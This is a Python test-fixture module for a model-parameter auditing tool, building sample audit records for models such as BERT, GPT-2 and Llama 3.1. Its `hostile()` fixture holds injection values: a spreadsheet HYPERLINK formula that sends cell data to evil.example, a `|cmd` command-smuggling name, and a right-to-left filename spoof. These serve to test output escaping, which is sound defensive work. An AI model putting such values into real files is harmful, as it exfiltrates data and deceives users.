"""Records made by hand, for the tests of writers and stores. Their numbers:

BERT large   embeddings 30,522 x 1,024 + 512 x 1,024 + 2 x 1,024 = 31,780,864, their norm 2,048;
             a layer 4 x (1,024^2 + 1,024) + 2 x 1,024 x 4,096 + 4,096 + 1,024 + 2 x 2,048
             = 12,596,224, times 24 = 302,309,376; pooler 1,024^2 + 1,024 = 1,049,600;
             together 335,141,888. Heads 1,049,600 + 2,048 + 30,522 + 2,050 = 1,084,220.
             All 336,226,108; at 4 bytes 1,344,904,432 = 1.34 GB = 1.25 GiB.
GPT-2        124,439,808 parameters; embeddings (50,257 + 1,024) x 768 = 39,383,808;
             masks 12 x 1,024 x 1,024 = 12,582,912; stored 137,022,720, at 4 bytes 548,090,880.
Llama 3.1 8B 128,256 x 4,096 = 525,336,576 for each of embedding and head; a layer 218,112,000,
             times 32, and the last norm 4,096: 8,030,261,248; at 2 bytes 16,060,522,496.
Multilingual BERT  119,547 tokens: 177,853,440, where 110 million are documented: 67,853,440 more.
"""

from collections.abc import Mapping
from dataclasses import replace

from auditor.core.claims import Claim, ClaimSource, Quantity, Scope, exact_quantity, quantity
from auditor.core.comparison import Comparison
from auditor.core.findings import Finding, Severity
from auditor.core.left_out import LeftOut
from auditor.core.record import (
    AuditFailure,
    AuditRecord,
    ComponentCount,
    FileRead,
    Proof,
)
from auditor.core.repository import HubFacts, Origin
from auditor.core.roles import PARAMETER_ROLES, Role
from auditor.core.tally import Amount, Count, Group, Tally
from auditor.core.tensors import Span
from auditor.core.verdict import Verdict

MILLION = 10**6
BILLION = 10**9
COMMIT = "6da4b6a26a1877e173fca3225479512db81a5e5b"
OID = "d0a2a7f9f5f5c0a5e9d8e8b2a5f2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4"


def group(
    name: str,
    role: Role,
    elements: int,
    pattern: str,
    *,
    tensors: int = 1,
    element_bytes: int = 4,
    trainable: bool = True,
    head: bool = False,
    reason: str = "a rule",
) -> Group:
    return Group(
        name=name,
        role=role,
        trainable=trainable,
        amount=Amount(
            tensors=tensors,
            elements=elements,
            stored_bytes=elements * element_bytes,
            low=elements if role in PARAMETER_ROLES else 0,
            high=elements if role in PARAMETER_ROLES else 0,
        ),
        pattern=pattern,
        reason=reason,
        head=head,
    )


def tally_of(groups: tuple[Group, ...], by_dtype: Mapping[str, Amount]) -> Tally:
    """The tally of `groups`, which must be all there is; logical counts are known."""

    def elements(*roles: Role) -> int:
        return sum(g.amount.elements for g in groups if g.role in roles)

    by_role: dict[Role, Amount] = {}
    for each in groups:
        by_role[each.role] = by_role.get(each.role, Amount()) + each.amount
    frozen = sum(g.amount.elements for g in groups if g.role in PARAMETER_ROLES and not g.trainable)
    total = elements(*PARAMETER_ROLES)
    return Tally(
        stored=sum(by_dtype.values(), start=Amount()),
        by_dtype=by_dtype,
        by_role=by_role,
        groups=groups,
        scalars=0,
        total=total,
        trainable=total - frozen,
        frozen=frozen,
        embedding=elements(Role.EMBEDDING),
        tied_copies=elements(Role.TIED_COPY),
        buffers=elements(Role.BUFFER),
        auxiliary=elements(Role.AUXILIARY),
    )


def memory_of(tally: Tally) -> Mapping[str, int]:
    """Whole bytes: 4, 2, 2, 1 and a half for each parameter."""
    total = tally.total
    if total is None:
        return {"stored": tally.stored.stored_bytes}
    return {
        "stored": tally.stored.stored_bytes,
        "F32": 4 * total,
        "F16": 2 * total,
        "BF16": 2 * total,
        "INT8": total,
        "INT4": -(-total // 2),
    }


def claim(
    figure: Quantity,
    source: ClaimSource = ClaimSource.CARD,
    where: str = "README.md, line 52",
    *,
    text: str = "",
    scope: Scope = Scope.TOTAL,
    detail: str = "",
) -> Claim:
    return Claim(
        text=text or f"{figure.written} parameters",
        quantity=figure,
        scope=scope,
        source=source,
        where=where,
        detail=detail,
    )


def compared(
    claimed: Claim,
    verdict: Verdict,
    actual: int | None,
    explanation: str,
    *,
    deciding: bool = True,
) -> Comparison:
    return Comparison(
        claim=claimed,
        verdict=verdict,
        actual=actual,
        explanation=explanation,
        deciding=deciding,
    )


def proof(
    *,
    origin: Origin = Origin.HUB,
    note: str = "",
    requests: int = 5,
    retries: int = 0,
    bytes_read: int = 68_256,
    weight_bytes: int = 1_344_951_957,
    headers_by: str = "ranges",
) -> Proof:
    return Proof(
        origin=origin,
        note=note,
        requests=requests,
        retries=retries,
        bytes_read=bytes_read,
        weight_bytes=weight_bytes,
        spans=(("model.safetensors", Span(0, 65_536)),),
        headers_by=headers_by,
        roles_by="rules",
        versions={"hfaudit": "0.1.0"},
    )


def record(
    model: str,
    tally: Tally,
    *,
    verdict: Verdict = Verdict.UNDOCUMENTED,
    comparisons: tuple[Comparison, ...] = (),
    counts: tuple[Count, ...] = (),
    files: tuple[FileRead, ...] = (),
    findings: tuple[Finding, ...] = (),
    requested: str = "",
    stands_on: Proof | None = None,
) -> AuditRecord:
    total = (
        ()
        if tally.total is None
        else (Count(key="total", name="all parameters", value=tally.total),)
    )
    return AuditRecord(
        model=model,
        requested=requested or model,
        revision="main",
        commit=COMMIT,
        verdict=verdict,
        tally=tally,
        counts=(*total, *counts),
        memory=memory_of(tally),
        components=(),
        comparisons=comparisons,
        findings=findings,
        files=files
        or (
            FileRead(
                path="model.safetensors",
                format="safetensors",
                oid=OID,
                size_bytes=tally.stored.stored_bytes + 47_525,
            ),
        ),
        left_out=(),
        proof=stands_on or proof(),
        architecture="BertForPreTraining",
    )


def bert_large() -> AuditRecord:
    """Agrees: 340M is 336,226,108 to two digits."""
    heads = (
        group(
            "transform", Role.HEAD, 1_049_600, "cls.predictions.transform.dense.weight", head=True
        ),
        group("bias", Role.HEAD, 30_522, "cls.predictions.bias", head=True),
        group("next sentence", Role.HEAD, 2_050, "cls.seq_relationship.weight", head=True),
        group("norm", Role.HEAD, 2_048, "cls.predictions.transform.LayerNorm.gamma", head=True),
    )
    encoder = (
        group("weights", Role.WEIGHT, 303_038_464, "bert.encoder.layer.*.output.dense.weight"),
        group(
            "token embeddings", Role.EMBEDDING, 31_780_864, "bert.embeddings.word_embeddings.weight"
        ),
        group("biases", Role.BIAS, 222_208, "bert.encoder.layer.*.output.dense.bias"),
        group("norms", Role.NORM, 100_352, "bert.encoder.layer.*.output.LayerNorm.gamma"),
    )
    counted = tally_of(
        (*encoder, *heads),
        {"F32": Amount(tensors=398, elements=336_226_108, stored_bytes=1_344_904_432)},
    )
    figure = quantity("340", MILLION, written="340M")
    loosely = "336,226,108 is 340M only to two digits"
    return replace(
        record(
            "google-bert/bert-large-uncased",
            counted,
            requested="bert-large-uncased",
            verdict=Verdict.ROUNDS_LOOSELY,
            comparisons=(
                compared(claim(figure), Verdict.ROUNDS_LOOSELY, 336_226_108, loosely),
                compared(
                    claim(exact_quantity(336_226_108), ClaimSource.HUB, "safetensors.total"),
                    Verdict.EXACT,
                    336_226_108,
                    "equal to the last parameter",
                ),
                compared(
                    claim(figure, ClaimSource.REGISTRY, "Devlin et al. 2018, section 3"),
                    Verdict.ROUNDS_LOOSELY,
                    336_226_108,
                    loosely,
                ),
            ),
            counts=(
                Count(
                    key="non_embedding",
                    name="parameters without embeddings",
                    value=304_445_244,
                    differs_by=(encoder[1],),
                ),
                Count(
                    key="backbone",
                    name="the backbone alone, without heads",
                    value=335_141_888,
                    differs_by=heads,
                ),
            ),
        ),
        hub=HubFacts(total=336_226_108, parameters={"F32": 336_226_108}, library="transformers"),
        left_out=(
            LeftOut(
                paths=("pytorch_model.bin", "tf_model.h5", "flax_model.msgpack"),
                reason="the same weights for other frameworks",
                size_bytes=4_034_000_000,
            ),
        ),
    )


def gpt2() -> AuditRecord:
    """The Hub's number counts the causal masks."""
    masks = group(
        "causal masks",
        Role.BUFFER,
        12_582_912,
        "h.*.attn.bias",
        tensors=12,
        reason="GPT-2 saved the attention's mask with the weights",
    )
    weights = group("weights", Role.WEIGHT, 85_056_000, "h.*.mlp.c_fc.weight", tensors=146)
    tokens = group("token embeddings", Role.EMBEDDING, 39_383_808, "wte.weight", tensors=2)
    counted = tally_of(
        (weights, tokens, masks),
        {"F32": Amount(tensors=160, elements=137_022_720, stored_bytes=548_090_880)},
    )
    return record(
        "openai-community/gpt2",
        counted,
        requested="gpt2",
        verdict=Verdict.OTHER_SCOPE,
        comparisons=(
            compared(
                claim(quantity("124", MILLION, written="124M")),
                Verdict.ROUNDS,
                124_439_808,
                "124,439,808 rounds to it",
            ),
            compared(
                claim(exact_quantity(137_022_720), ClaimSource.HUB, "safetensors.total"),
                Verdict.OTHER_SCOPE,
                124_439_808,
                "counts every stored element: 12,582,912 of them are causal masks (h.*.attn.bias),"
                " not parameters",
            ),
        ),
        counts=(
            Count(
                key="non_embedding",
                name="parameters without embeddings",
                value=85_056_000,
                differs_by=(tokens,),
            ),
            Count(
                key="stored", name="every stored element", value=137_022_720, differs_by=(masks,)
            ),
        ),
        stands_on=proof(requests=4, bytes_read=33_120, weight_bytes=548_105_171),
    )


def llama() -> AuditRecord:
    """Four shards, a head of its own, a size in the name."""
    head = group(
        "language-model head",
        Role.HEAD,
        525_336_576,
        "lm_head.weight",
        element_bytes=2,
        head=True,
    )
    tokens = group(
        "token embeddings",
        Role.EMBEDDING,
        525_336_576,
        "model.embed_tokens.weight",
        element_bytes=2,
    )
    norms = group(
        "norms", Role.NORM, 266_240, "model.layers.*.input_layernorm.weight", element_bytes=2
    )
    weights = group(
        "weights", Role.WEIGHT, 6_979_321_856, "model.layers.*.mlp.up_proj.weight", element_bytes=2
    )
    counted = tally_of(
        (weights, head, tokens, norms),
        {"BF16": Amount(tensors=291, elements=8_030_261_248, stored_bytes=16_060_522_496)},
    )
    sizes = (4_976_698_672, 4_999_802_720, 4_915_916_176, 1_168_138_808)
    return record(
        "meta-llama/Llama-3.1-8B",
        counted,
        verdict=Verdict.ROUNDS,
        comparisons=(
            compared(
                claim(quantity("8", BILLION, written="8B")),
                Verdict.ROUNDS,
                8_030_261_248,
                "8,030,261,248 rounds to it",
            ),
            compared(
                claim(
                    quantity("8.03", BILLION, written="8.03B"),
                    ClaimSource.LIST,
                    "models.csv, line 7",
                ),
                Verdict.ROUNDS,
                8_030_261_248,
                "8,030,261,248 rounds to it",
            ),
            compared(
                claim(
                    quantity("70", BILLION, written="70B"),
                    scope=Scope.OTHER_MODEL,
                    detail="Llama-3.1-70B",
                ),
                Verdict.NOT_COMPARED,
                None,
                "about Llama-3.1-70B",
                deciding=False,
            ),
        ),
        counts=(
            Count(
                key="backbone",
                name="the backbone alone, without heads",
                value=7_504_924_672,
                differs_by=(head,),
            ),
        ),
        files=tuple(
            FileRead(
                path=f"model-{index:05}-of-00004.safetensors",
                format="safetensors",
                oid=OID,
                size_bytes=size,
            )
            for index, size in enumerate(sizes, 1)
        ),
        findings=(
            Finding(
                code="index-total-size",
                severity=Severity.NOTICE,
                message="the index gives 16,060,522,496 bytes, the files are 33,880 longer:"
                " their headers",
            ),
        ),
        stands_on=proof(
            requests=7,
            bytes_read=112_000,
            weight_bytes=16_060_556_376,
            headers_by="safetensors-metadata",
        ),
    )


def multilingual() -> AuditRecord:
    """Differs by 61.7 %: the figure was copied from the English model."""
    tokens = group(
        "token embeddings", Role.EMBEDDING, 92_206_848, "embeddings.word_embeddings.weight"
    )
    weights = group("weights", Role.WEIGHT, 85_646_592, "encoder.layer.*.output.dense.weight")
    counted = tally_of(
        (tokens, weights),
        {"F32": Amount(tensors=199, elements=177_853_440, stored_bytes=711_413_760)},
    )
    return record(
        "google-bert/bert-base-multilingual-cased",
        counted,
        verdict=Verdict.MISMATCH,
        comparisons=(
            compared(
                claim(quantity("110", MILLION, written="110M"), where="README.md, line 114"),
                Verdict.MISMATCH,
                177_853_440,
                "67,853,440 more than documented (+61.7 %)",
            ),
        ),
        findings=(
            Finding(
                code="no-pooler",
                severity=Severity.INFO,
                message="the pooler is stored with the encoder",
            ),
        ),
    )


def packed() -> AuditRecord:
    """Unverifiable: the packing is not known, so neither is the count."""
    weights = group(
        "packed weights", Role.PACKED, 1_744_830_464, "layers.*.qweight", element_bytes=1
    )
    stored = Amount(tensors=224, elements=1_744_830_464, stored_bytes=1_744_830_464)
    counted = replace(
        tally_of((weights,), {"U8": stored}),
        total=None,
        trainable=None,
        frozen=None,
        embedding=None,
        total_range=(1_744_830_464, 13_958_643_712),
    )
    return record(
        "someone/odd-7b-3bit",
        counted,
        verdict=Verdict.UNVERIFIABLE,
        comparisons=(
            compared(
                claim(quantity("7", BILLION, written="7B"), ClaimSource.NAME, "odd-7b-3bit"),
                Verdict.UNVERIFIABLE,
                None,
                "how many parameters there are is not known",
                deciding=False,
            ),
        ),
        findings=(
            Finding(
                code="unknown-packing",
                severity=Severity.ERROR,
                message="224 tensors are packed in a way that is not known (layers.*.qweight, U8):"
                " each byte may hold one to eight weights",
            ),
        ),
        stands_on=proof(weight_bytes=1_744_856_008),
    )


def reconstructed() -> AuditRecord:
    """BERT large from a snapshot that was not read from the Hub."""
    return replace(
        bert_large(),
        proof=proof(
            origin=Origin.SNAPSHOT_RECONSTRUCTED,
            note="names, shapes and dtypes of BertForPreTraining; its sum agrees with the file's"
            " published 336,226,108 elements",
            requests=0,
            bytes_read=31_004,
        ),
    )


def pipeline() -> AuditRecord:
    """Stable Diffusion 1.4: three components, a documented figure that none of them is."""
    parts = (
        ("unet", 859_520_964),
        ("text_encoder", 123_060_480),
        ("vae", 83_653_863),
    )
    classes = ("UNet2DConditionModel", "CLIPTextModel", "AutoencoderKL")
    weights = group("weights", Role.WEIGHT, 1_066_235_307, "down_blocks.*.resnets.*.conv1.weight")
    counted = tally_of(
        (weights,),
        {"F32": Amount(tensors=1_130, elements=1_066_235_307, stored_bytes=4_264_941_228)},
    )
    figure = quantity("860", MILLION, written="860M")
    return replace(
        record(
            "CompVis/stable-diffusion-v1-4",
            counted,
            verdict=Verdict.MISMATCH,
            comparisons=(
                compared(
                    claim(figure, scope=Scope.COMPONENT, detail="unet"),
                    Verdict.ROUNDS,
                    859_520_964,
                    "859,520,964 rounds to it",
                ),
                compared(
                    claim(
                        quantity("890", MILLION, written="890M"),
                        ClaimSource.LIST,
                        "seed.csv, line 4",
                    ),
                    Verdict.MISMATCH,
                    1_066_235_307,
                    "176,235,307 more than documented (+19.8 %)",
                ),
            ),
            counts=(Count(key="component:unet", name="the component unet", value=859_520_964),),
        ),
        components=tuple(
            ComponentCount(
                name=name,
                class_name=class_name,
                format="safetensors",
                parameters=count,
                stored_bytes=4 * count,
            )
            for (name, count), class_name in zip(parts, classes, strict=True)
        ),
    )


def whisper() -> AuditRecord:
    """Nothing documented; some parameters are frozen, one matrix is stored twice."""
    positions = group(
        "frozen positions",
        Role.EMBEDDING,
        1_536_000,
        "model.encoder.embed_positions.weight",
        trainable=False,
    )
    tokens = group(
        "token embeddings", Role.EMBEDDING, 53_109_760, "model.decoder.embed_tokens.weight"
    )
    weights = group("weights", Role.WEIGHT, 709_212_160, "model.decoder.layers.*.fc1.weight")
    copy = group("a second copy of the embedding", Role.TIED_COPY, 53_109_760, "proj_out.weight")
    counted = tally_of(
        (weights, tokens, copy, positions),
        {"F32": Amount(tensors=948, elements=816_967_680, stored_bytes=3_267_870_720)},
    )
    return record("someone/whisper-medium-tuned", counted)


def gated() -> AuditFailure:
    return AuditFailure(
        requested="meta-llama/Llama-2-7b-hf",
        model="meta-llama/Llama-2-7b-hf",
        kind="gated",
        message="meta-llama/Llama-2-7b-hf: access to its files must be asked for",
        hint="ask at https://huggingface.co/meta-llama/Llama-2-7b-hf, then log in: hf auth login",
    )


def hostile() -> AuditRecord:
    """Names and texts as an attacker would write them."""
    bad = (
        '=HYPERLINK("http://evil.example/?"&A1)\r\n'
        "\x1b[31m[bold red]red[/bold red]\u202egnp.exe\ud800"
    )
    return replace(
        multilingual(),
        model="org/" + "a" * 100_000,
        requested="@SUM(1+1)|cmd",
        comparisons=(
            compared(
                claim(quantity("110", MILLION, written="110M"), text=bad, where=f"{bad}, line 1"),
                Verdict.MISMATCH,
                177_853_440,
                bad,
            ),
        ),
        findings=(Finding(code="odd-name", severity=Severity.WARNING, message=bad),),
        left_out=(LeftOut(paths=(bad,), reason=bad, size_bytes=None),),
    )


def every_outcome() -> tuple[AuditRecord | AuditFailure, ...]:
    return (
        bert_large(),
        gpt2(),
        llama(),
        multilingual(),
        packed(),
        reconstructed(),
        pipeline(),
        whisper(),
        gated(),
        hostile(),
    )
